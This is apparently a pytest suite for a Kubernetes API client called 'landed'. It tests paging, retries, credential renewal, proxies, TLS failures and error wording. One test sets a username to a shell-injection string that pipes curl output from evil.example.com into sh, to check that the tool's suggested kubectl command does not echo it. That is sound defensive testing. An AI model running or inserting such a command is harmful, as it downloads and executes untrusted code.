"""The connection: pages, retries, renewal, and one clear sentence for everything that can go wrong."""

from __future__ import annotations

import gzip
import json
import socket
import ssl
import threading
from typing import TYPE_CHECKING, Any

import objects
import pytest
import trustme
from kube.cases import jwt, soon
from kube.proxies import Proxy
from kube.server import FLUX, PREFIX, Reply, Seen, Server, status
from kube.world import b64

from landed import kube
from landed.errors import ClusterError, ConfigurationError
from landed.kube import wire
from landed.kube.client import Client
from landed.kube.credentials import Credentials, Identity, anonymous
from landed.kube.endpoint import Endpoint
from landed.kube.errors import Forbidden, NotServed

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from kube.world import Config, World


@pytest.fixture
def pauses() -> list[float]:
    return []


@pytest.fixture
def client(world: World, pauses: list[float]) -> Iterator[Client]:
    with open_client(world, world.config(), pauses) as made:
        yield made


def open_client(world: World, config: Config, pauses: list[float] | None = None, timeout: float = 5) -> Client:
    """A client that only notes how long it would have waited between tries."""
    made = kube.connect(config.text(), "", world.environ(), timeout=timeout)
    made._pause = (pauses if pauses is not None else []).append
    return made


def told(call: Callable[[], Any], kind: type[ClusterError] = ClusterError) -> str:
    """What a user reads."""
    with pytest.raises(kind) as caught:
        call()
    assert caught.value.exit_code == 5
    text = f"{caught.value.message} {caught.value.hint}".strip()
    assert caught.value.message.endswith(".")
    for secret in ("g00d", "Bearer", "labelSelector", "s3cret"):
        assert secret not in text
    return text


def listed(client: Client, size: int = 500) -> tuple[list[str], int]:
    """The names in the list, and how often it began again."""
    names: list[str] = []
    restarts = 0

    def take(page: bytes | bytearray) -> str:
        read = json.loads(page)
        names.extend(item["metadata"]["name"] for item in read["items"])
        token: str = read["metadata"].get("continue", "")
        return token

    def restart() -> None:
        nonlocal restarts
        restarts += 1
        names.clear()

    client.pages(FLUX, {"labelSelector": "a=b"}, take, restart, size)
    return names, restarts


def names(count: int) -> list[str]:
    return [f"app-{number}" for number in range(count)]


def fill(server: Server, count: int) -> None:
    server.lists[FLUX] = [objects.kustomization(name) for name in names(count)]


class TestRequests:
    def test_one_connection_for_everything_and_gzip(self, world: World, client: Client) -> None:
        fill(world.api, 25)
        assert listed(client, 10) == (names(25), 0)
        client.get("/version")
        assert client.post("/version", b"{}")
        assert [seen.query.get("continue") for seen in world.api.seen] == [None, "10", "20", None, None]
        assert {seen.query.get("limit") for seen in world.api.seen[:3]} == {"10"}
        assert {seen.query.get("labelSelector") for seen in world.api.seen[:3]} == {"a=b"}
        assert len({seen.connection for seen in world.api.seen}) == 1
        assert (client.connections, client.requests) == (1, 5)
        headers = world.api.seen[0].headers
        assert headers["host"] == f"127.0.0.1:{world.api.port}"
        assert headers["accept"] == "application/json"
        assert headers["accept-encoding"] == "gzip"
        assert headers["user-agent"].startswith("landed/")
        assert world.api.seen[-1].headers["content-type"] == "application/json"

    def test_nothing_is_asked_before_it_is_needed(self, world: World) -> None:
        with open_client(world, world.config()) as client:
            assert client.connections == 0
        assert world.api.seen == []

    def test_disable_compression(self, world: World) -> None:
        fill(world.api, 25)
        with open_client(world, world.config(disable_compression=True)) as client:
            assert listed(client) == (names(25), 0)
        assert "accept-encoding" not in world.api.seen[0].headers

    def test_chunks(self, world: World, client: Client) -> None:
        page = objects.encoded(objects.listing("Kustomization", [objects.kustomization("one")]))
        body = gzip.compress(page)
        chunks = b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in (body[:100], body[100:])) + b"0\r\n\r\n"
        head = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Encoding: gzip\r\n\r\n"
        world.api.faults[FLUX] = [Reply(raw=head + chunks)]
        assert listed(client) == (["one"], 0)

    def test_an_answer_without_a_length_ends_with_the_connection(self, world: World, client: Client) -> None:
        page = objects.encoded(objects.listing("Kustomization", [objects.kustomization("one")]))
        world.api.faults[FLUX] = [Reply(raw=b"HTTP/1.0 200 OK\r\n\r\n" + page)]
        assert listed(client) == (["one"], 0)
        assert listed(client) == (["web"], 0)
        assert client.connections == 2

    def test_a_connection_closed_meanwhile_is_replaced(self, world: World, client: Client, pauses: list[float]) -> None:
        client.get(FLUX)
        world.api.hang_up()
        client.get(FLUX)
        assert (client.connections, pauses) == (2, [])

    def test_a_connection_that_the_server_closes_after_each_answer(self, world: World, client: Client) -> None:
        world.api.faults[FLUX] = [Reply(body=b"{}", headers={"Connection": "close"}, close=True)] * 2
        client.get(FLUX)
        client.get(FLUX)
        assert client.connections == 2

    def test_a_closed_client_can_be_used_again(self, client: Client) -> None:
        client.get(FLUX)
        client.close()
        client.get(FLUX)
        assert client.connections == 2

    def test_plain_http(self, world: World) -> None:
        with open_client(world, world.config(server=world.plain.url)) as client:
            client.get(FLUX)
        assert world.plain.users == ["alice"]

    def test_plain_http_through_a_proxy(self, world: World) -> None:
        url = f"http://api.cluster.test:{world.plain.port}"
        with open_client(world, world.config(server=url, proxy_url=world.http_proxy.url)) as client:
            client.get(FLUX)
        assert world.http_proxy.asked == [f"api.cluster.test:{world.plain.port}"]

    def test_ipv6(self, world: World) -> None:
        with socket.socket(socket.AF_INET6) as listening:
            try:
                listening.bind(("::1", 0))
            except OSError:
                pytest.skip("there is no IPv6 on this machine")
            listening.listen()
            thread = threading.Thread(target=_answer_once, args=(listening,))
            thread.start()
            with open_client(world, world.config(server=f"http://[::1]:{listening.getsockname()[1]}")) as client:
                assert client.get("/version") == b"{}"
            thread.join()

    def test_a_host_header_has_no_port_where_it_is_the_usual_one(self) -> None:
        assert Endpoint("x", "a.example.com", 443).netloc == "a.example.com"
        assert Endpoint("x", "a.example.com", 443, "http").netloc == "a.example.com:443"

    def test_impersonation_with_uid_and_extra(self, world: World) -> None:
        user = {
            "token": "g00d",
            "as": "bot",
            "as-uid": "7",
            "as-groups": ["a", "b"],
            "as-user-extra": {"example.com/Scopes": ["one", "two"], "snö": ["x"]},
        }
        with open_client(world, world.config(user)) as client:
            client.get(FLUX)
        headers = world.api.seen[0].headers
        assert headers["impersonate-user"] == "bot"
        assert headers["impersonate-uid"] == "7"
        assert headers["impersonate-group"] == "a, b"
        assert headers["impersonate-extra-example.com%2fscopes"] == "one, two"
        assert headers["impersonate-extra-sn%c3%b6"] == "x"


def _answer_once(listening: socket.socket) -> None:
    connection, _ = listening.accept()
    with connection:
        connection.recv(65536)
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}")


class TestTryingAgain:
    @pytest.mark.parametrize("code", [429, 500, 502, 503, 504])
    def test_what_may_pass(self, code: int, world: World, client: Client, pauses: list[float]) -> None:
        world.api.faults[FLUX] = [status(code, "busy")] * 3
        client.get(FLUX)
        assert len(pauses) == 3
        assert [0.12 < pauses[0] < 0.4, 0.24 < pauses[1] < 0.8, 0.49 < pauses[2] < 1.6] == [True] * 3

    def test_four_times_and_no_more(self, world: World, client: Client, pauses: list[float]) -> None:
        world.api.faults[FLUX] = [status(503, "the server is currently unable to handle the request")] * 9
        assert told(lambda: client.get(FLUX)) == (
            f'The cluster of context "x" (127.0.0.1:{world.api.port}) answered 503: the server is currently unable to '
            "handle the request. It was asked several times. Try again later."
        )
        assert (client.requests, len(pauses)) == (4, 3)

    def test_retry_after_is_obeyed_within_limits(self, world: World, client: Client, pauses: list[float]) -> None:
        plain = b"Too many requests, please try again later.\n"
        world.api.faults[FLUX] = [
            Reply(429, plain, {"Retry-After": "7", "Content-Type": "text/plain"}),
            Reply(429, plain, {"Retry-After": "86400"}),
            Reply(429, plain, {"Retry-After": "Wed, 21 Oct 2026 07:28:00 GMT"}),
        ]
        client.get(FLUX)
        assert pauses[:2] == [7.0, 30.0]
        assert pauses[2] < 2

    def test_a_plain_text_429_is_told(self, world: World, client: Client) -> None:
        world.api.faults[FLUX] = [Reply(429, b"Too many requests, please try again later.\n")] * 4
        assert "answered 429: Too many requests, please try again later. It was" in told(lambda: client.get(FLUX))

    @pytest.mark.parametrize(
        "fault",
        [
            pytest.param(Reply(body=b'{"items": []}', cut=5), id="body cut"),
            pytest.param(
                Reply(body=gzip.compress(b"{}" * 999)[:-9], headers={"Content-Encoding": "gzip"}), id="gzip cut"
            ),
            pytest.param(Reply(raw=b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nff\r\n{}"), id="chunk cut"),
            pytest.param(Reply(body=b"\x1f\x8b nonsense", headers={"Content-Encoding": "gzip"}), id="gzip damaged"),
            pytest.param(Reply(drop=True), id="no answer"),
        ],
    )
    def test_an_answer_cut_off(self, fault: Reply, world: World, client: Client, pauses: list[float]) -> None:
        world.api.faults[FLUX] = [fault, fault, fault]
        assert listed(client) == (["web"], 0)
        assert 2 <= len(pauses) <= 3
        world.api.faults[FLUX] = [fault] * 9
        assert f"(127.0.0.1:{world.api.port})" in told(lambda: client.get(FLUX))

    def test_a_401_renews_the_credentials_once(self, world: World) -> None:
        made: list[str] = []

        def obtain() -> Identity:
            made.append("token")
            return Identity("Bearer stale")

        endpoint = Endpoint("x", "127.0.0.1", world.api.port, authority=world.authority)
        with Client(endpoint, Credentials(obtain, renewable=True)) as client:
            assert "does not accept the credentials that were given (401)" in told(lambda: client.get(FLUX))
        assert len(made) == 2
        with Client(endpoint, Credentials(obtain)) as client:
            told(lambda: client.get(FLUX))
        assert len(made) == 3

    def test_a_renewed_certificate_takes_a_new_connection(self, world: World) -> None:
        certificate, key = world.pair()
        path, key_path = world.write("c.crt", certificate), world.write("c.key", key)
        user = {"client-certificate": str(path), "client-key": str(key_path)}
        with open_client(world, world.config(user)) as client:
            client.get(FLUX)
            fresh, fresh_key = world.pair(world.next_certificate)
            path.write_bytes(fresh)
            key_path.write_bytes(fresh_key)
            world.api.faults[FLUX] = [status(401, "Unauthorized")]
            client.get(FLUX)
        assert world.api.users == ["carol", "carol", "dave"]
        assert client.connections == 2


class TestPages:
    def test_a_list_that_expires_begins_again(self, world: World, client: Client) -> None:
        fill(world.api, 25)
        world.api.faults[FLUX] = [
            _later(status(410, "The provided continue parameter is too old", reason="Expired"))
        ] * 3
        assert listed(client, 10) == (names(25), 1)

    def test_at_most_three_times(self, world: World, client: Client) -> None:
        fill(world.api, 25)
        expired = _later(status(410, "too old", reason="Expired"))
        world.api.faults[FLUX] = [expired] * 99
        assert "let a list expire before it was read, 4 times" in told(lambda: listed(client, 10))
        assert [seen.query.get("continue") for seen in world.api.seen] == [None, "10"] * 4

    def test_a_server_that_gives_the_same_page_for_ever(self, world: World, client: Client) -> None:
        page = objects.encoded(objects.listing("Kustomization", [], continue_token="again"))
        world.api.faults[FLUX] = [Reply(body=page)] * 9
        told(lambda: listed(client))
        assert client.requests == 2

    @pytest.mark.parametrize(
        ("body", "says"),
        [
            (
                b"<!DOCTYPE html><title>Sign in</title>",
                "a web page that is not Kubernetes' JSON. There may be a login page",
            ),
            (b"hello", "something that is not Kubernetes' JSON"),
            (b"", "something that is not Kubernetes' JSON"),
            (b"\xff\xfe", "something that is not Kubernetes' JSON"),
        ],
    )
    def test_something_else_than_a_list(self, body: bytes, says: str, world: World, client: Client) -> None:
        world.api.faults[FLUX] = [Reply(body=body)]
        assert says in told(lambda: listed(client))


def _later(reply: Reply) -> Callable[[Seen], Reply | None]:
    """Only for the second page and on."""
    return lambda seen: reply if seen.query.get("continue") else None


class TestRefusals:
    def test_401(self, world: World) -> None:
        with open_client(world, world.config({"token": "s3cret-token"})) as client:
            message = told(lambda: client.get(FLUX))
        assert message.startswith(
            f'The cluster of context "x" (127.0.0.1:{world.api.port}) does not accept the credentials '
            'of user "u" (401).'
        )
        assert client.requests == 1

    def test_an_expired_token_is_recognised(self, world: World) -> None:
        with open_client(world, world.config({"token": jwt(soon(days=-3))})) as client:
            message = told(lambda: client.get(FLUX))
        assert 'credentials of user "u": the token expired on 20' in message
        assert "Get a new kubeconfig" in message

    def test_an_expired_client_certificate_is_recognised(self, world: World) -> None:
        certificate, key = world.pair(world.expired_certificate)
        user = {"client-certificate-data": b64(certificate), "client-key-data": b64(key)}
        with open_client(world, world.config(user)) as client:
            message = told(lambda: client.get(FLUX))
        assert 'of user "u": the client certificate expired on 2021-02-03 00:00 UTC' in message

    def test_an_expired_client_certificate_that_the_api_server_itself_refuses(self, world: World) -> None:
        certificate, key = world.pair(world.expired_certificate)
        user = {"client-certificate-data": b64(certificate), "client-key-data": b64(key)}
        with (
            Server(world.ca.issue_cert("127.0.0.1")) as server,
            open_client(world, world.config(user, server=server.url)) as client,
        ):
            message = told(lambda: client.get(FLUX))
        assert "the client certificate expired on 2021-02-03 00:00 UTC (401)" in message

    def test_a_client_certificate_of_another_ca(self, world: World) -> None:
        stranger = world.other_ca.issue_cert("mallory@example.com", common_name="mallory")
        certificate, key = world.pair(stranger)
        user = {"client-certificate-data": b64(certificate), "client-key-data": b64(key)}
        with open_client(world, world.config(user)) as client:
            message = told(lambda: client.get(FLUX))
        assert 'does not accept the credentials of user "u" (TLS)' in message or "closes the connection" in message

    def test_403_in_all_namespaces(self, world: World, client: Client) -> None:
        world.api.forbidden.add(FLUX)
        message = told(lambda: client.get(FLUX), Forbidden)
        assert (
            'does not let user "alice" list kustomizations.kustomize.toolkit.fluxcd.io in all namespaces (403).'
            in message
        )
        assert (
            "kubectl create clusterrole landed --verb=get,list,watch "
            "--resource=kustomizations.kustomize.toolkit.fluxcd.io && "
            "kubectl create clusterrolebinding landed --clusterrole=landed --user='alice'. deploy/rbac.yaml" in message
        )

    def test_403_in_one_namespace_for_a_service_account(self, world: World, client: Client) -> None:
        path = "/apis/kustomize.toolkit.fluxcd.io/v1/namespaces/team-a/kustomizations"
        world.api.forbidden.add(path)
        world.api.tokens["g00d"] = "system:serviceaccount:ci:landed"
        message = told(lambda: client.get(path, {"limit": "500"}), Forbidden)
        assert 'user "system:serviceaccount:ci:landed" list kustomizations' in message
        assert "in namespace team-a (403)" in message
        assert "kubectl create role landed" in message
        assert (
            "kubectl create rolebinding landed --role=landed --serviceaccount=ci:landed --namespace=team-a" in message
        )

    def test_403_for_a_name_that_a_shell_would_run(self, world: World, client: Client) -> None:
        world.api.tokens["g00d"] = "'; curl evil.example.com | sh; '"
        world.api.forbidden.add(FLUX)
        message = told(lambda: client.get(FLUX), Forbidden)
        assert "--user=USER. deploy/rbac.yaml" in message
        assert "--user=''" not in message

    def test_403_for_nobody(self, world: World) -> None:
        world.api.anonymous = True
        with open_client(world, world.config({})) as client:
            message = told(lambda: client.get(FLUX), Forbidden)
        assert "takes us for system:anonymous" in message
        assert "there are none" in message

    @pytest.mark.parametrize("body", [b"Forbidden by the WAF\n", b"<html>no</html>", b"[]", b'{"message": 7}', b""])
    def test_403_by_something_else(self, body: bytes, world: World, client: Client) -> None:
        world.api.faults[FLUX] = [Reply(403, body)]
        assert 'does not let user "u" list kustomizations' in told(lambda: client.get(FLUX), Forbidden)

    def test_404(self, client: Client) -> None:
        assert "does not serve /apis/none" in told(lambda: client.get("/apis/none"), NotServed)

    def test_a_redirect_is_not_followed(self, world: World, client: Client) -> None:
        with Server() as other:
            location = f"{other.url}/login?token=g00d"
            world.api.faults[FLUX] = [Reply(302, b"", {"Location": location})]
            message = told(lambda: client.get(FLUX))
            assert other.seen == []
        assert "answered with a redirect to 127.0.0.1, which is not followed" in message

    @pytest.mark.parametrize("location", ["/login", "http://[", ""])
    def test_a_redirect_to_nowhere(self, location: str, world: World, client: Client) -> None:
        world.api.faults[FLUX] = [Reply(302, b"", {"Location": location})]
        assert "redirect to" in told(lambda: client.get(FLUX))

    @pytest.mark.parametrize(
        ("reply", "says"),
        [
            (status(400, "continue key is not valid: {}"), "answered 400: continue key is not valid: {}."),
            (Reply(400, b"Client sent an HTTP request to an HTTPS server.\n"), "speaks TLS"),
            (Reply(418, b"<html>teapot</html>"), "answered 418."),
            (Reply(400, b"\xff" * 9999), "answered 400: "),
            (status(400, "no\x1b[31m\n::error::forged"), "answered 400: no [31m ::error::forged."),
            (status(400, "token=abcdef0123456789"), "answered 400: token=***."),
        ],
    )
    def test_other_answers(self, reply: Reply, says: str, world: World, client: Client) -> None:
        world.api.faults[FLUX] = [reply]
        message = told(lambda: client.get(FLUX))
        assert says in message
        assert len(message) < 1200


def _answer(raw: bytes, deadline: float = float("inf")) -> wire.Answer:
    ours, theirs = socket.socketpair()
    with ours, theirs:
        theirs.sendall(raw)
        theirs.shutdown(socket.SHUT_WR)
        connection = wire.Connection(ours)
        try:
            return connection.answer(deadline)
        finally:
            connection.close()


class TestNoAnswer:
    def test_an_answer_that_only_drips_is_given_up(self) -> None:
        with pytest.raises(TimeoutError):
            _answer(b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\n{", deadline=0)

    def test_an_answer_that_never_ends_is_given_up(self, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(wire, "LIMIT", 1000)
        for body in (gzip.compress(b" " * 1001), b" " * 1001):
            headers = {"Content-Encoding": "gzip"} if body[0] == 0x1F else {}
            world.api.faults[FLUX] = [Reply(200, body, headers)]
            with open_client(world, world.config(disable_compression=True)) as client:
                assert "its answer is damaged" in told(lambda: client.get(FLUX))

    def test_a_server_that_hangs(self, world: World) -> None:
        world.api.faults[FLUX] = [Reply(hang=True)]
        with open_client(world, world.config(), timeout=0.3) as client:
            message = told(lambda: client.get(FLUX))
            world.api.hang_up()
        assert f"(127.0.0.1:{world.api.port}) did not answer within 0.3 s." in message

    def test_a_server_that_hangs_in_the_middle(self, world: World) -> None:
        with _raw(b"HTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\n{") as port:
            config = world.config(server=f"http://127.0.0.1:{port}")
            with open_client(world, config, timeout=0.3) as client:
                assert "did not answer within 0.3 s" in told(lambda: client.get(FLUX))

    def test_a_server_that_does_not_shake_hands(self, world: World) -> None:
        with (
            _raw(b"") as port,
            open_client(world, world.config(server=f"https://127.0.0.1:{port}"), timeout=0.3) as client,
        ):
            assert "did not answer within 0.3 s" in told(lambda: client.get(FLUX))

    def test_a_port_where_nobody_listens(self, world: World, pauses: list[float]) -> None:
        with socket.socket() as taken:
            taken.bind(("127.0.0.1", 0))
            config = world.config(server=f"https://127.0.0.1:{taken.getsockname()[1]}")
            with open_client(world, config, pauses) as client:
                assert "refuses the connection. Check the server" in told(lambda: client.get(FLUX))
        assert pauses == []

    def test_a_name_without_an_address(self, world: World) -> None:
        with open_client(world, world.config(server="https://no.such.host.invalid:6443")) as client:
            message = told(lambda: client.get(FLUX))
        assert "(no.such.host.invalid:6443) cannot be found: no.such.host.invalid has no address" in message

    @pytest.mark.parametrize("host", ["a" * 64 + ".example.com", "a..b", "xn--", "ü" * 70])
    def test_a_name_that_cannot_be_one(self, host: str, world: World) -> None:
        with open_client(world, world.config(server=f"https://{host}")) as client:
            assert "cannot be" in told(lambda: client.get(FLUX))

    def test_no_route(self, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
        import errno

        def unreachable(*_: object, **__: object) -> None:
            raise OSError(errno.ENETUNREACH, "Network is unreachable")

        monkeypatch.setattr(socket, "create_connection", unreachable)
        with open_client(world, world.config()) as client:
            assert "cannot be reached: there is no route to it" in told(lambda: client.get(FLUX))

    def test_another_protocol(self, world: World) -> None:
        with _raw(b"SSH-2.0-OpenSSH_9.2\r\n", close=True) as port:
            with open_client(world, world.config(server=f"http://127.0.0.1:{port}")) as client:
                message = told(lambda: client.get(FLUX))
            assert "something that is not HTTP" in message or "closes the connection" in message
            with open_client(world, world.config(server=f"https://127.0.0.1:{port}")) as client:
                assert "does not speak TLS" in told(lambda: client.get(FLUX))

    def test_a_plain_server_behind_https(self, world: World) -> None:
        with open_client(world, world.config(server=world.plain.url.replace("http:", "https:"))) as client:
            assert "does not speak TLS. Check the port" in told(lambda: client.get(FLUX))

    def test_an_expired_server_certificate(self, world: World) -> None:
        import datetime

        past = datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC)
        certificate = world.ca.issue_cert("127.0.0.1", not_before=past, not_after=past.replace(year=2021))
        with Server(certificate) as server, open_client(world, world.config(server=server.url)) as client:
            assert "shows a certificate that has expired. It has to be renewed on the cluster" in told(
                lambda: client.get(FLUX)
            )

    def test_a_server_certificate_of_tomorrow(self, world: World) -> None:
        import datetime

        future = datetime.datetime(2090, 1, 1, tzinfo=datetime.UTC)
        certificate = world.ca.issue_cert("127.0.0.1", not_before=future, not_after=future.replace(year=2091))
        with Server(certificate) as server, open_client(world, world.config(server=server.url)) as client:
            message = told(lambda: client.get(FLUX))
        assert "certificate that is not yet valid. Is this machine's clock right?" in message

    def test_an_intermediate_or_the_server_s_own_certificate_may_be_the_authority(self, world: World) -> None:
        certificate = world.ca.issue_cert("127.0.0.1")
        leaf = b64(certificate.cert_chain_pems[0].bytes())
        with (
            Server(certificate) as server,
            open_client(world, world.config(server=server.url, certificate_authority_data=leaf)) as client,
        ):
            client.get(FLUX)

    @pytest.mark.parametrize("authority", [b"hello", b"-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"])
    def test_an_authority_that_is_none(self, authority: bytes, world: World) -> None:
        with (
            open_client(world, world.config(certificate_authority_data=b64(authority))) as client,
            pytest.raises(ConfigurationError, match="holds no certificate"),
        ):
            client.get(FLUX)

    def test_an_authority_with_remarks(self, world: World) -> None:
        remarks = "# für uns\n".encode() + world.authority + b"# end\n" + world.other_ca.cert_pem.bytes()
        with open_client(world, world.config(certificate_authority_data=b64(remarks))) as client:
            client.get(FLUX)


class _raw:
    """A server that says the same to everybody, and then nothing more."""

    def __init__(self, says: bytes, *, close: bool = False) -> None:
        self._says, self._close = says, close
        self._listening = socket.create_server(("127.0.0.1", 0))
        self._open: list[socket.socket] = []
        self._thread = threading.Thread(target=self._serve)
        self._thread.start()

    def __enter__(self) -> int:
        port: int = self._listening.getsockname()[1]
        return port

    def __exit__(self, *_: object) -> None:
        self._listening.shutdown(socket.SHUT_RDWR)
        self._listening.close()
        self._thread.join()
        for connection in self._open:
            connection.close()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._listening.accept()
            except OSError:
                return
            self._open.append(connection)
            connection.sendall(self._says)
            if self._close:
                connection.shutdown(socket.SHUT_WR)


class TestProxies:
    def test_a_login_for_the_proxy(self, world: World) -> None:
        url = world.http_proxy.url.replace("//", "//jo%40example:s3cret@")
        with open_client(world, world.config(proxy_url=url)) as client:
            client.get(FLUX)
        assert f"Proxy-Authorization: Basic {b64(b'jo@example:s3cret')}".encode() in world.http_proxy.heads[0]
        assert b"Bearer" not in world.http_proxy.heads[0]

    def test_a_proxy_over_tls(self, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
        authority = trustme.CA()
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        authority.issue_cert("127.0.0.1").configure_cert(context)
        monkeypatch.setenv("SSL_CERT_FILE", str(world.write("proxy.pem", authority.cert_pem.bytes())))
        fill(world.api, 60)
        with Proxy("http", context) as proxy:
            with open_client(world, world.config(proxy_url=proxy.url)) as client:
                assert listed(client, 25) == (names(60), 0)
                world.api.faults[FLUX] = [Reply(body=b"{}", headers={"Connection": "close"}, close=True)]
                client.get(FLUX)
                client.get(FLUX)
                world.api.hang_up()
                client.get(FLUX)
            assert proxy.asked == [f"127.0.0.1:{world.api.port}"] * 3

    def test_a_proxy_over_tls_that_is_not_trusted(self, world: World) -> None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        trustme.CA().issue_cert("127.0.0.1").configure_cert(context)
        with Proxy("http", context) as proxy, open_client(world, world.config(proxy_url=proxy.url)) as client:
            assert "shows a certificate that this system does not trust" in told(lambda: client.get(FLUX))

    @pytest.mark.parametrize("answer", ["407 Proxy Authentication Required", "403 Forbidden", "502 Bad Gateway"])
    def test_a_proxy_that_refuses(self, answer: str, world: World) -> None:
        with Proxy("http", answer=answer) as proxy:
            url = proxy.url.replace("//", "//jo:s3cret@")
            with open_client(world, world.config(proxy_url=url)) as client:
                message = told(lambda: client.get(FLUX))
        assert f"cannot be reached: the proxy {proxy.host} answers {answer[:3]} to CONNECT" in message
        assert "HTTPS_PROXY" in message

    def test_a_proxy_that_is_not_there(self, world: World) -> None:
        for scheme in ("http", "https", "socks5"):
            with open_client(world, world.config(proxy_url=f"{scheme}://jo:s3cret@127.0.0.1:1")) as client:
                assert "the proxy 127.0.0.1:1" in told(lambda: client.get(FLUX))

    def test_a_proxy_that_talks_nonsense(self, world: World) -> None:
        for says, message in (
            (b"hello\r\n\r\n", "answers nonsense to CONNECT"),
            (b"hello", "gives no answer that makes sense"),
        ):
            with (
                _raw(says, close=True) as port,
                open_client(world, world.config(proxy_url=f"http://127.0.0.1:{port}")) as client,
            ):
                assert message in told(lambda: client.get(FLUX))

    @pytest.mark.parametrize("url", ["ftp://127.0.0.1:1", "http://", "http://[::1", "http://127.0.0.1:x", "nonsense"])
    def test_a_proxy_url_that_is_none(self, url: str, world: World) -> None:
        with (
            open_client(world, world.config(proxy_url=url)) as client,
            pytest.raises(ConfigurationError, match="is not a usable URL"),
        ):
            client.get(FLUX)

    def test_socks_without_pysocks(self, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setitem(__import__("sys").modules, "socks", None)
        with (
            open_client(world, world.config(proxy_url=world.socks_proxy.url)) as client,
            pytest.raises(ConfigurationError, match="PySocks is not installed") as caught,
        ):
            client.get(FLUX)
        assert "landed[socks]" in caught.value.hint


def test_a_prefix_stands_before_every_path(world: World) -> None:
    with open_client(world, world.config(server=world.api.url + PREFIX)) as client:
        listed(client)
        client.post("/version", b"{}")
    assert {seen.prefix for seen in world.api.seen} == {PREFIX}


def test_anonymous_credentials_are_nobody(world: World) -> None:
    with Client(Endpoint("x", "127.0.0.1", world.plain.port, "http"), anonymous()) as client:
        told(lambda: client.get(FLUX))
    assert "authorization" not in world.plain.seen[0].headers
